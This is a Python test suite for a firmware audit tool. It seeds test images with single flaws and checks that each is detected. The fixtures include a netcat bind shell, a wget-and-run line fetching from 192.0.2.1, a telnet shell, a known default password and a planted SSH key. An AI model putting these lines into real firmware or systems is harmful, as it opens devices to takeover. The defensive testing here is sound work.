"""`komainu-maker audit`: a good firmware passes, as a folder and as the real mksquashfs and mkfs.ext4 pack it; and each
rule refuses an image that has one thing wrong.
"""

import json
import os
import subprocess

from firmware_tree import SBOM, Audit, Firmware
from place import KOMAINU, KOMAINU_MAKER, ROOT, Skip, command, need, need_root, test, tests

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIqI4910CfGV/VLbLTy6XXLKZwm/HZQSG/N0iAG0D29c vendor"
FINGERPRINT = "SHA256:fe85JkIjo8VPe+XqXJGH5Mau1EMFdK1OdKvJUFicyA8"


def crypt(password):
    """A crypt string of OpenSSL's."""
    return command(need("openssl", "openssl"), "passwd", "-6", "-salt", "komainu", password).stdout.strip()


def openssl_key(firmware, name, *words, mode=0o600):
    firmware.path(name).parent.mkdir(parents=True, exist_ok=True)
    command(need("openssl", "openssl"), *words, "-out", firmware.path(name))
    firmware.path(name).chmod(mode)


def pkcs12(firmware):
    key = firmware.place.path("key.pem")
    command(need("openssl", "openssl"), "genpkey", "-algorithm", "RSA", "-out", key)
    openssl_key(firmware, "usr/lib/store", "pkcs12", "-export", "-nocerts", "-inkey", key, "-passout", "pass:")


def dropbear_key(firmware, mode=0o600):
    firmware.path("etc/dropbear").mkdir()
    path = firmware.path("etc/dropbear/dropbear_ed25519_host_key")
    command(need("dropbearkey", "dropbear-bin"), "-t", "ed25519", "-f", path)
    path.chmod(mode)


def openssh_key(firmware):
    firmware.path("etc/ssh").mkdir()
    path = firmware.path("etc/ssh/server-identity")
    command(need("ssh-keygen", "openssh-client"), "-q", "-t", "ed25519", "-N", "", "-f", path)


def initscript(firmware):
    firmware.replace("etc/inittab", "::sysinit:/usr/sbin/komainu firewall\n", "")
    firmware.replace("etc/inittab", "::respawn:/usr/sbin/komainu run\n", "")
    firmware.write("etc/init.d/komainu", (ROOT / "agent/dist/komainu.init").read_bytes(), 0o755)


def starter(firmware, conf):
    """The state is mounted by komainu-start, by its settings alone."""
    firmware.replace("etc/inittab", "::sysinit:/bin/mount -t ubifs ubi0:data /data\n", "")
    firmware.replace("etc/inittab", "::sysinit:/usr/sbin/komainu firewall\n", "::sysinit:/usr/sbin/komainu-start\n")
    firmware.write("usr/sbin/komainu-start", (ROOT / "agent/dist/komainu-start").read_bytes(), 0o755)
    firmware.write("etc/komainu/start.conf", (ROOT / "agent/dist/start.conf").read_text() + conf)


def capable(firmware, rights="cap_net_raw,cap_net_admin+ep"):
    need_root("file capabilities")
    command(need("setcap", "libcap2-bin"), rights, firmware.path("usr/sbin/dnsmasq"))


def device_node(firmware):
    need_root("device nodes")
    command("mknod", firmware.path("usr/lib/disk"), "b", "8", "0")


def open_disk(firmware):
    need_root("device nodes")
    command("mknod", "-m", "0666", firmware.path("dev/mtdblock0"), "b", "31", "0")


def service(firmware, name):
    firmware.program(f"usr/sbin/{name}", firmware.path("bin/busybox"))
    firmware.add("etc/init.d/rcS", f"/usr/sbin/{name} -D")


def sbom(firmware, **changes):
    firmware.write("usr/share/komainu/sbom.json", json.dumps({**SBOM, **changes}))


def kernel(firmware, *without):
    """The configuration of a kernel that has all that is asked for, but for these options."""
    options = command(KOMAINU_MAKER, "kernel-check", "--fragment").stdout.splitlines(keepends=True)
    assert all(any(line.startswith(f"CONFIG_{name}=") for line in options) for name in without), without
    kept = [line for line in options if not line.startswith(tuple(f"CONFIG_{name}=" for name in without) or "\0")]
    firmware.write("boot/config-6.1.0", "# Linux/mips 6.1.0 Kernel Configuration\n" + "".join(kept))


#: The rule, the path that it names, a word of what it says, and the one thing that is wrong.
CASES = [
    ("password-empty", "/etc/shadow", "root", lambda f: f.replace("etc/shadow", "root:*:", "root::")),
    ("password-empty", "/etc/passwd", "guest", lambda f: f.add("etc/passwd", "guest::500:500::/:/bin/sh")),
    ("password-known", "/etc/shadow", "root", lambda f: f.replace("etc/shadow", "root:*:", f"root:{crypt('xc3511')}:")),
    ("password-known", "/etc/htpasswd", "admin", lambda f: f.write("etc/htpasswd", f"admin:{crypt('admin')}\n", 0o600)),
    ("password-fixed", "/etc/shadow", "root", lambda f: f.replace("etc/shadow", "root:*:", f"root:{crypt('Ohagi-7 hunts')}:")),
    ("password-fixed", "/etc/shadow", "root", lambda f: f.replace("etc/shadow", "root:*:", "root:$y$j9T$F5Jx$Uxxxxxxxxxx:")),
    ("account-all-rights", "/etc/passwd", "support", lambda f: f.add("etc/passwd", "support:*:0:0::/:/bin/sh")),
    ("telnet-started", "/etc/inittab", "telnetd", lambda f: f.add("etc/inittab", "::respawn:/usr/sbin/telnetd -F")),
    ("telnet-started", "/etc/init.d/S50telnet", "telnetd",
     lambda f: f.write("etc/init.d/S50telnet", "#!/bin/sh\nstart() {\n busybox telnetd -l /bin/sh\n}\nstart\n", 0o755)),
    ("telnet-started", "/etc/inetd.conf", "telnetd",
     lambda f: f.write("etc/inetd.conf", "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n")),
    ("shell-offered", "/etc/init.d/rcS", "shell", lambda f: f.add("etc/init.d/rcS", "nc -l -p 4444 -e /bin/sh &")),
    ("program-fetched", "/etc/init.d/rcS", "fetches",
     lambda f: f.add("etc/init.d/rcS", "wget -O /tmp/x http://192.0.2.1/x && sh /tmp/x")),
    ("service-not-in-policy", "/etc/init.d/rcS", "snmpd (udp/161)", lambda f: service(f, "snmpd")),
    ("service-not-in-policy", "/etc/init.d/rcS", "SSH", lambda f: f.add("etc/init.d/rcS", "/usr/sbin/dropbear -R")),
    ("start-unclear", "/etc/init.d/rcS", "shell", lambda f: f.add("etc/init.d/rcS", '$(cat /etc/first) "$@"')),
    ("console-open", "/etc/inittab", "/bin/sh", lambda f: f.add("etc/inittab", "ttyS1::askfirst:-/bin/sh")),
    ("host-key-shared", "/etc/dropbear/dropbear_ed25519_host_key", "SSH server", dropbear_key),
    ("host-key-shared", "/etc/ssh/server-identity", "SSH server", openssh_key),
    ("private-key-shared", "/etc/lighttpd/server.pem", "PEM, PKCS#8",
     lambda f: openssl_key(f, "etc/lighttpd/server.pem", "genpkey", "-algorithm", "ed25519")),
    ("private-key-shared", "/etc/ssl/tls", "PEM, RSA",
     lambda f: openssl_key(f, "etc/ssl/tls", "genrsa", "-traditional")),
    ("private-key-shared", "/usr/lib/x.bin", "DER, PKCS#8",
     lambda f: openssl_key(f, "usr/lib/x.bin", "genpkey", "-algorithm", "ed25519", "-outform", "DER")),
    ("private-key-shared", "/usr/lib/r.bin", "(DER, ",
     lambda f: openssl_key(f, "usr/lib/r.bin", "genpkey", "-algorithm", "RSA", "-outform", "DER")),
    ("private-key-shared", "/usr/lib/store", "PKCS#12", pkcs12),
    ("private-key-shared", "/usr/lib/e.bin", "DER, EC",
     lambda f: openssl_key(f, "usr/lib/e.bin", "ecparam", "-genkey", "-noout", "-name", "prime256v1", "-outform", "DER")),
    ("secret-readable", "/etc/shadow", "0644", lambda f: f.path("etc/shadow").chmod(0o644)),
    ("authorized-key", "/root/.ssh/authorized_keys", FINGERPRINT, lambda f: f.write("root/.ssh/authorized_keys", KEY + "\n", 0o600)),
    ("example-keys", "/usr/share/komainu/root.json", "keys-example",
     lambda f: f.write("usr/share/komainu/root.json", (ROOT / "keys-example/root.json").read_bytes())),
    ("root-missing", "/usr/share/komainu/root.json", "no such file", lambda f: f.path("usr/share/komainu/root.json").unlink()),
    ("root-invalid", "/usr/share/komainu/root.json", "",
     lambda f: f.replace("usr/share/komainu/root.json", '"version": 1', '"version": 2')),
    ("agent-missing", "/usr/sbin/komainu", "executable", lambda f: f.path("usr/sbin/komainu").chmod(0o644)),
    ("agent-not-started", "/usr/sbin/komainu", "starts komainu", initscript),
    ("settings-missing", "/etc/komainu.toml", "no such file", lambda f: f.path("etc/komainu.toml").unlink()),
    ("settings-invalid", "/etc/komainu.toml", "interval_seconds",
     lambda f: f.replace("etc/komainu.toml", "# interval_seconds = 25_200", "interval_seconds = 1")),
    ("settings-invalid", "/usr/share/komainu/policies/router.toml", "ssh",
     lambda f: f.replace("usr/share/komainu/policies/router.toml", "ssh = false", 'ssh = "no"')),
    ("policy-missing", "/usr/share/komainu/policies/camera.toml", "camera",
     lambda f: f.replace("etc/komainu.toml", 'kind = "router"', 'kind = "camera"')),
    ("state-on-ram", "/etc/inittab", "/data/komainu", lambda f: f.replace("etc/inittab", "ubifs ubi0:data /data", "tmpfs tmpfs /data")),
    ("state-on-ram", "/etc/fstab", "lies in RAM",
     lambda f: (f.replace("etc/komainu.toml", "/data/komainu", "/var/lib/komainu"), f.write("etc/fstab", "none /var tmpfs size=1m 0 0\n"))),
    ("state-on-ram", "/var/lib/komainu", "/tmp is in RAM",
     lambda f: (f.replace("etc/komainu.toml", "/data/komainu", "/var/lib/komainu"), f.path("var").rmdir(), f.path("var").symlink_to("tmp"),
                f.replace("etc/inittab", "::sysinit:/bin/mount -t tmpfs tmpfs /tmp\n", ""), f.program("sbin/procd", f.path("bin/busybox")))),
    ("kernel-option-missing", "/boot/config-6.1.0", "SIGNALFD", lambda f: kernel(f, "SIGNALFD")),
    ("kernel-option-weak", "/boot/config-6.1.0", "SECCOMP", lambda f: kernel(f, "SECCOMP_FILTER")),
    ("world-writable", "/etc/init.d/rcS", "0777", lambda f: f.path("etc/init.d/rcS").chmod(0o777)),
    ("world-writable", "/data", "folder", lambda f: f.path("data").chmod(0o777)),
    ("state-on-ram", "/etc/komainu/start.conf", "TYPE=tmpfs", lambda f: starter(f, "DEVICE=none TYPE=tmpfs STATE=/data\n")),
    ("setuid-surprise", "/usr/sbin/dnsmasq", "gets cap_net_admin, cap_net_raw", capable),
    ("setuid-surprise", "/usr/sbin/dnsmasq", "user 0", lambda f: f.path("usr/sbin/dnsmasq").chmod(0o4755)),
    ("device-node", "/usr/lib/disk", "outside /dev", device_node),
    ("device-node", "/dev/mtdblock0", "every account", open_disk),
    ("debug-server", "/usr/bin/gdbserver", "gdbserver", lambda f: f.program("usr/bin/gdbserver", f.path("bin/busybox"))),
    ("debug-tool", "/usr/bin/strace", "strace", lambda f: f.program("usr/bin/strace", need("strace", "strace"))),
    ("sbom-missing", "/usr/share/komainu/sbom.json", "no such file", lambda f: f.path("usr/share/komainu/sbom.json").unlink()),
    ("sbom-invalid", "/usr/share/komainu/sbom.json", "bomFormat", lambda f: sbom(f, bomFormat="SPDX")),
    ("sbom-invalid", "/usr/share/komainu/sbom.json", "no component", lambda f: sbom(f, components=[])),
    ("sbom-without-identity", "/usr/share/komainu/sbom.json", "1 of 3",
     lambda f: sbom(f, components=[*SBOM["components"], {"type": "library", "name": "libx", "version": "1"}])),
]
#: Rules whose cases stand in tests of their own: what only a packed or a hostile image has.
ELSEWHERE = {"state-unmounted", "settings-unchecked", "not-looked-at"}


@test
def every_rule_of_the_audit_refuses_its_bad_image_and_nothing_else_is_found(place):
    good = Firmware(place)
    assert Audit(good.folder).found() == []
    for number, (rule, path, says, spoil) in enumerate(CASES):
        bad = good.copy(f"bad-{number}")
        spoil(bad)
        audit = Audit(bad.folder)
        found = audit.found()
        matching = [one for one in found if one[0] == rule and one[1] == path and says in one[2]]
        assert matching, f"{rule}: {found}"
        severity = next(one["severity"] for one in audit.report["findings"] if one["rule"] == rule)
        assert audit.code == (1 if severity == "error" else 0), f"{rule}: exit {audit.code}"
        # One mistake may be two: a key that all can read. But no rule speaks of another's file.
        others = {one[0] for one in found} - {rule}
        assert others <= MORE.get(rule, set()), f"{rule}: also {others}: {found}"
        command("rm", "-rf", bad.folder)


#: What a mistake is besides.
MORE = {
    "telnet-started": {"start-unclear"},
    "settings-missing": {"policy-missing", "state-unmounted", "service-not-in-policy"},
    "policy-missing": {"service-not-in-policy"},
    "settings-invalid": {"service-not-in-policy"},
}


@test
def every_rule_of_the_table_has_a_bad_image(_):
    lines = command(KOMAINU_MAKER, "audit", "--rules").stdout.splitlines()
    rules = {line.split()[1].rstrip(":") for line in lines if line.startswith(("error  ", "warning  "))}
    assert rules == {case[0] for case in CASES} | ELSEWHERE, rules ^ ({case[0] for case in CASES} | ELSEWHERE)


def a_good_firmware_passes_as(place, pack):
    firmware = Firmware(place)
    audit = Audit(pack(firmware))
    assert (audit.code, audit.found()) == (0, []), audit.out
    # A key behind the first block of a large file, over the border of two blocks, and in the tail.
    key = command(need("openssl", "openssl"), "genpkey", "-algorithm", "RSA").stdout
    for name, before in (("border", (1 << 17) - 400), ("tail", (1 << 17) * 3 + 5)):
        firmware.write(f"usr/lib/{name}.bin", b"\x7fELF" + bytes(range(1, 251)) * (before // 250) + key.encode() + b"\0" * 9, 0o600)
    firmware.path("etc/shadow").chmod(0o640)
    firmware.path("bin/busybox").chmod(0o4755)
    audit = Audit(pack(firmware))
    assert audit.code == 1
    found = [(rule, path) for rule, path, _ in audit.found()]
    assert found == [("private-key-shared", "/usr/lib/border.bin"), ("private-key-shared", "/usr/lib/tail.bin"),
                     ("setuid-surprise", "/bin/busybox")], audit.found()


tests(a_good_firmware_passes_as, "a_good_firmware_passes_as_{}_and_its_keys_are_found_there", [
    ("squashfs_by_xz", lambda f: f.squashfs("xz")),
    ("squashfs_by_xz_with_a_filter", lambda f: f.squashfs("xz", "-Xbcj", "arm", "-b", "256K")),
    ("squashfs_by_gzip", lambda f: f.squashfs("gzip")),
    ("squashfs_by_zstd", lambda f: f.squashfs("zstd")),
    ("squashfs_by_lz4", lambda f: f.squashfs("lz4")),
    ("squashfs_without_fragments_or_packing", lambda f: f.squashfs("gzip", "-no-fragments", "-noI", "-noD")),
    ("ext4", lambda f: f.ext4()),
    ("ext4_of_small_blocks_without_extents", lambda f: f.ext4(64, "-b", "1024", "-O", "^extents,^64bit")),
])


@test
def a_read_only_image_that_mounts_no_place_for_its_state_is_warned_of(place):
    firmware = Firmware(place)
    firmware.replace("etc/inittab", "::sysinit:/bin/mount -t ubifs ubi0:data /data\n", "")
    assert Audit(firmware.folder).rules() == []
    audit = Audit(firmware.squashfs("zstd"))
    assert (audit.code, audit.rules()) == (0, ["state-unmounted"])


@test
def the_storage_that_the_starter_mounts_is_a_place_for_the_state(place):
    for conf, rules in (("STATE=/data\nDEVICE='ubi0:data' TYPE=ubifs\n", []), ("STATE=/data\n# DEVICE=ubi0:data\n", ["state-unmounted"]),
                        ("DEVICE=/dev/mmcblk0p6\n", ["state-unmounted"])):
        firmware = Firmware(place, f"firmware-{len(rules)}-{len(conf)}")
        starter(firmware, conf)
        assert Audit(firmware.squashfs("zstd")).rules() == rules, conf
    # Its settings count only where it is started.
    firmware = Firmware(place, "unstarted")
    starter(firmware, "STATE=/data\nDEVICE=none TYPE=tmpfs\n")
    firmware.replace("etc/inittab", "::sysinit:/usr/sbin/komainu-start\n", "")
    assert Audit(firmware.squashfs("zstd")).rules() == ["state-unmounted"]


def capabilities_are_found(place, pack):
    firmware = Firmware(place)
    capable(firmware)
    # In ext4 these leave no room beside the fields of the inode.
    for name in ("user.a", "user.b"):
        os.setxattr(firmware.path("usr/sbin/dnsmasq"), name, b"x" * 60)
    # Many sets of attributes, so that the table has several blocks; and one without capabilities.
    for number in range(700):
        path = firmware.write(f"usr/share/doc/{number}", f"{number}\n")
        os.setxattr(path, "user.number", str(number).encode() * 9)
    os.setxattr(firmware.path("bin/busybox"), "user.note", b"x" * 900)
    firmware.program("bin/ping", firmware.path("bin/busybox"))
    command(need("setcap", "libcap2-bin"), "cap_net_raw+ep", firmware.path("bin/ping"))
    for image in (firmware.folder, pack(firmware)):
        found = Audit(image).found()
        assert found == [("setuid-surprise", "/usr/sbin/dnsmasq",
                          "whoever starts it gets cap_net_admin, cap_net_raw (file capabilities)")], found


tests(capabilities_are_found, "capabilities_of_files_are_found_in_a_folder_and_in_{}", [
    ("squashfs_by_xz", lambda f: f.squashfs("xz")),
    ("squashfs_with_unpacked_attributes", lambda f: f.squashfs("gzip", "-noX")),
    ("ext4", lambda f: f.ext4()),
    ("ext4_of_small_blocks_without_extents", lambda f: f.ext4(64, "-b", "1024", "-O", "^extents,^64bit")),
])


@test
def the_kernel_of_an_image_is_judged_by_its_configuration_where_it_has_one(place):
    firmware = Firmware(place)
    kernel(firmware)
    assert Audit(firmware.folder).found() == []
    firmware.write("boot/config-6.1.0", "CONFIG_NET=y\n")
    audit = Audit(firmware.folder)
    assert audit.code == 0 and [(rule, path) for rule, path, _ in audit.found()] == [("not-looked-at", "/boot/config-6.1.0")]


@test
def settings_that_no_agent_can_check_are_warned_of(place):
    firmware = Firmware(place)
    alone = place.path("alone/komainu-maker")
    command("cp", KOMAINU_MAKER, alone)
    done = subprocess.run([alone, "audit", "--json", firmware.folder], capture_output=True, text=True, check=False)
    assert [one["rule"] for one in json.loads(done.stdout)["findings"]] == ["settings-unchecked"]
    assert done.returncode == 0


@test
def what_the_maker_allows_is_told_with_its_reason_and_refuses_nothing(place):
    firmware = Firmware(place)
    firmware.program("usr/bin/strace", need("strace", "strace"))
    firmware.path("bin/busybox").chmod(0o4755)
    allowances = place.path("audit.allow")
    allowances.write_text("# of this product\nsetuid-surprise:/bin/busybox  ping needs it, reviewed 2026-05\n")
    audit = Audit(firmware.folder, "--allow-file", allowances, "--allow", "debug-tool:/usr/bin/strace", "--allow", "telnet-started")
    assert (audit.code, audit.found()) == (0, [])
    reasons = {one["rule"]: one["allowed"] for one in audit.report["findings"]}
    assert reasons == {"setuid-surprise": "ping needs it, reviewed 2026-05", "debug-tool": "allowed on the command line"}
    assert audit.report["unneeded_allowances"] == ["telnet-started"]
    said = Audit(firmware.folder, "--allow-file", allowances, form=None)
    assert "allowed  setuid-surprise  /bin/busybox" in said.out and "debug-tool" in said.out
    allowances.write_text("setuid-surprise\n")
    refused = Audit(firmware.folder, "--allow-file", allowances)
    assert refused.code == 2 and "line 1: setuid-surprise needs a reason behind it" in refused.err
    allowances.write_text("setuid-surprise:/bin/busybox one\nsetuid-surprise:/bin/busybox two\ndebug-tool all\n")
    twice = Audit(firmware.folder, "--allow-file", allowances)
    assert twice.code == 0 and "line 2: setuid-surprise:/bin/busybox stands in line 1 already" in twice.err, twice.err


@test
def an_option_that_names_nothing_is_a_wrong_command_line(place):
    firmware = Firmware(place)
    pipe = place.path("pipe")
    os.mkfifo(pipe)
    os.symlink(KOMAINU, place.path("komainu"))
    for words, says in ((["--allow", "tea-time"], 'there is no rule "tea-time"'), (["--settings", "etc/komainu.toml"], "begins with /"),
                        (["--settings", "/etc/none.toml"], "the image has no such file"), (["--allow-file", "/nowhere"], "there is no file /nowhere"),
                        (["--allow-file", pipe], "is no ordinary file"), (["--komainu", "/nowhere"], "there is no such program"),
                        (["--komainu", "true"], "there is no such program"), (["--komainu", need("true", "coreutils")], "it is not komainu"),
                        (["--komainu", need("yes", "coreutils")], "it is not komainu"), (["--komainu", ROOT / "README.md"], "cannot be started"),
                        (["--komainu", place.path(".")], "no ordinary file"), (["--rules"], "cannot be used with")):
        done = subprocess.run([KOMAINU_MAKER, "audit", *map(str, words), str(firmware.folder)], capture_output=True, text=True,
                              check=False, cwd=place.path("."))
        assert done.returncode == 2 and says in done.stderr and not done.stdout, (words, done)
    # A name without a slash is the file of this folder, and not the one of PATH.
    done = subprocess.run([KOMAINU_MAKER, "audit", "--komainu", "komainu", str(firmware.folder)], capture_output=True, text=True,
                          check=False, cwd=place.path("."), env={"PATH": "/nowhere"})
    assert done.returncode == 0, done.stderr


@test
def the_report_for_people_names_file_line_reason_mend_and_norm(place):
    firmware = Firmware(place)
    firmware.add("etc/inittab", "::respawn:/usr/sbin/telnetd -F")
    said = Audit(firmware.folder, form=None)
    assert said.code == 1
    for words in ("error  telnet-started: telnet is started", "/etc/inittab line 8: it starts telnet: ::respawn:/usr/sbin/telnetd -F",
                  "why    ", "mend   Take the line out", "ETSI EN 303 645", "1 errors, 0 warnings, 0 allowed"):
        assert words in said.out, f"{words!r} is not in {said.out}"


@test
def sarif_is_valid_by_the_schema_of_the_standard(place):
    try:
        import jsonschema
    except ImportError as missing:
        raise Skip(f"needs {missing.name} (tests/setup)") from missing
    schema = ROOT / "work/sarif/sarif-2.1.0-rtm.5.json"
    if not schema.is_file():
        raise Skip("needs the schema of SARIF (tests/setup)")
    firmware = Firmware(place)
    firmware.add("etc/inittab", "::respawn:/usr/sbin/telnetd -F")
    firmware.write("etc/a name: with %20 and ümlaut", "", 0o666)
    firmware.write("usr/bin/strace\n\x1b[2J", b"", 0o666)
    audit = Audit(firmware.folder, "--allow", "world-writable", form="--sarif")
    log = json.loads(audit.out)
    checker = jsonschema.Draft7Validator(json.loads(schema.read_text()), format_checker=jsonschema.FormatChecker())
    faults = [f"{list(fault.path)}: {fault.message}" for fault in checker.iter_errors(log)]
    assert faults == [], faults
    # The check can fail.
    assert list(checker.iter_errors({**log, "runs": [{"results": 7}]}))
    results = log["runs"][0]["results"]
    assert [one["ruleId"] for one in results] == ["telnet-started", "world-writable", "world-writable"]
    assert results[0]["locations"][0]["physicalLocation"]["region"]["startLine"] == 8
    rules = log["runs"][0]["tool"]["driver"]["rules"]
    assert all(rules[one["ruleIndex"]]["id"] == one["ruleId"] for one in results)
    assert [("suppressions" in one) for one in results] == [False, True, True]
